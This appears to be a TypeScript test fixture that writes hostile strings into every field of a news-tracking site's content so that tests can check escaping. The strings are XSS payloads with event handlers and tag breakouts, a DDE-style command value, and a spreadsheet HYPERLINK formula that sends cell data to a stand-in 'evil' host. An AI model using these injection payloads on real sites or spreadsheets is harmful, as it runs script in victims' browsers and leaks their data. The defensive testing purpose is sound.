import { mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';

/**
 * Texts that are sound content and would do harm wherever one is not escaped: as an element `<X-MARK>`, which the tests look for,
 * or as code that calls `RAN()`.
 */
export const HOSTILE_TEXTS = [
  '<X-MARK ONFOCUS=RAN() TABINDEX=0 AUTOFOCUS></X-MARK><IMG SRC=X ONERROR=RAN()>',
  '"\'><X-MARK></X-MARK><SVG ONLOAD=RAN()> ` ONMOUSEOVER=RAN() X="',
  '</SCRIPT></script><X-MARK></X-MARK><SCRIPT>RAN()</SCRIPT>',
  '</title></style></textarea></svg>--><X-MARK></X-MARK><!--<script>',
  ']]></summary></title><X-MARK/><![CDATA[',
  '=HYPERLINK("HTTPS://EVIL.EXAMPLE?"&A1, "X") <X-MARK></X-MARK>',
  '@SUM(1+1)*CMD|X!A0 \\nBEGIN:VEVENT\\nEND:VCALENDAR;X,Y\\, <X-MARK></X-MARK>',
  '\\INPUT{X} $_^&#~% } ER  - @ARTICLE{X, {{RAN()}} <X-MARK></X-MARK>',
] as const;

/** Ids of the events, each with one of the texts as its title and in every other field that holds words. */
export const HOSTILE_EVENTS = HOSTILE_TEXTS.map((_, index) => `hostile-${index + 1}`);

/** Fills the content of a copy of the project with hostile texts, in both languages and every kind of entry. */
export function writeHostileContent(project: string): void {
  const folder = path.join(project, 'content');
  const write = (file: string, text: string) => {
    mkdirSync(path.dirname(path.join(folder, file)), { recursive: true });
    writeFileSync(path.join(folder, file), text);
  };
  for (const kind of ['events', 'claims', 'stories', 'actors', 'terms']) {
    rmSync(path.join(folder, kind), { recursive: true, force: true });
  }
  // Pages of prose link to entries that are gone; what they say does not matter here.
  for (const file of readdirSync(path.join(folder, 'pages'), { recursive: true, encoding: 'utf8' })) {
    if (!file.endsWith('.mdx')) continue;
    const [, front] = readFileSync(path.join(folder, 'pages', file), 'utf8').split(/^---\n/m);
    write(`pages/${file}`, `---\n${front}---\n\nWords.\n`);
  }
  write('redirects.yaml', '# none\n');
  write('permalinks.txt', '');
  const source = (text: string, index: number) => ({
    title: text,
    publisher: text,
    url: `https://example.org/${index}?a=%22%3E%3CX-MARK%3E&b='x'`,
    date: '2023-10',
    lang: 'en',
    kind: 'primary',
    archive: `https://web.archive.org/web/20231021080000/https://example.org/${index}?'<`.replace('<', '%3C'),
  });
  const dates = { added: '2026-11-20', checked: '2026-11-20' };
  /** Of a body, an address would become a link, which may lead nowhere but to a plain one. */
  const body = (text: string) => `${text.replace('HTTPS://', '').replace(/[\\`*_{}[\]<>()#+\-.!|$~&^"']/g, '\\$&')}.[^post]\n`;

  for (const [index, text] of HOSTILE_TEXTS.entries()) {
    const id = HOSTILE_EVENTS[index];
    const facts = {
      title: text,
      summary: text,
      date: `2023-10-1${index}`,
      lane: 'models',
      significance: index === 0 ? 3 : 2,
      actors: index % 2 ? ['hostile', 'acme'] : ['acme', 'hostile'],
      places: ['CN'],
      status: 'disputed',
      figures: [{ label: text, value: 1, unit: 'percent', sources: ['post'] }],
      sources: { post: source(text, index) },
      relations: index > 0 ? [{ type: 'responds-to', event: HOSTILE_EVENTS[0] }] : [],
      corrections: [{ date: '2026-11-20', grade: 'major', was: text, now: text }],
      ...dates,
    };
    write(`events/${id}/en.mdx`, `---\n${yaml(facts)}---\n\n${body(text)}`);
    const words = { title: text, summary: text, figures: [text], corrections: [{ was: text, now: text }], ...STALE };
    write(`events/${id}/id.mdx`, `---\n${yaml(words)}---\n\n${body(text)}`);
    const both = { en: text, id: text };
    write(
      `claims/hostile-${index + 1}.yaml`,
      yaml({
        statement: both,
        speaker: text,
        carried: ['post'],
        verdict: 'unverifiable',
        record: both,
        subject: 'models',
        event: id,
        actors: ['hostile'],
        sources: { post: source(text, index) },
        corrections: [{ date: '2026-11-20', grade: 'major', was: both, now: both }],
        ...dates,
      }),
    );
  }
  const [first, second, third] = HOSTILE_TEXTS;
  write(
    'actors/hostile.yaml',
    yaml({
      name: first,
      names: { zh: second.slice(0, 60), id: third, short: '<X-MARK>' },
      kind: 'company',
      summary: { en: first, id: second },
    }),
  );
  write(
    'actors/acme.yaml',
    yaml({ name: 'Acme', kind: 'company', country: 'US', summary: { en: 'A firm that acts.', id: 'Sebuah perusahaan.' } }),
  );
  write(
    'terms/hostile.yaml',
    yaml({
      term: { en: first, id: second },
      forms: { en: ['SCRIPT'], id: ['SCRIPT'] },
      definition: { en: first, id: second },
      sources: { post: source(third, 9) },
    }),
  );
  const steps = HOSTILE_EVENTS.slice(0, 6);
  const walk = `Words.\n\n${steps.map((event) => `<Step event="${event}">\n\nWords.\n\n</Step>`).join('\n\n')}\n`;
  write('stories/hostile/en.mdx', `---\n${yaml({ title: first, summary: second, steps, ...dates })}---\n\n${walk}`);
  write('stories/hostile/id.mdx', `---\n${yaml({ title: second, summary: first, ...STALE })}---\n\n${walk}`);
}

/** Of other words, so that the pages say that the translation is older. */
const STALE = { translates: '000000000000' };

/** JSON is YAML, in which every text is quoted. */
function yaml(data: object): string {
  return Object.entries(data)
    .map(([key, value]) => `${key}: ${JSON.stringify(value)}\n`)
    .join('');
}
